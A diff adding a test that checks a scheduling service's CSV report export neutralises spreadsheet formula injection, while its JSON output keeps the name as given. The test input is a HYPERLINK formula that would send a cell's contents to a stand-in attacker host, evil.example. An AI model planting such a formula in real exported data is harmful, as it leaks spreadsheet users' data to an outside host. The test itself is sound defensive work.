@@ -330,3 +330,14 @@ describe('what a report read is reused for REPORT_CACHE_MS', () => {
     expect(await notesVia('cached')).toBe(2);
   });
 });
+
+describe('CSV opened in a spreadsheet', () => {
+  it('neutralises a name that a spreadsheet would run as a formula; JSON keeps it as given', async () => {
+    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Lukas")';
+    await org.scheduling.patch(`/v1/people/${year.people.repC}`, { name }).expect(200);
+    const path = `/v1/reports/cadence?from=2026-01-01&to=2026-12-31&repId=${year.people.repC}`;
+    const rows = parse((await org.agenda.get(`${path}&format=csv`).expect(200)).text, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.rep_name)).toEqual([`'${name}`]);
+    expect((await org.agenda.get(path).expect(200)).body.pairs[0].rep.name).toBe(name);
+  });
+});
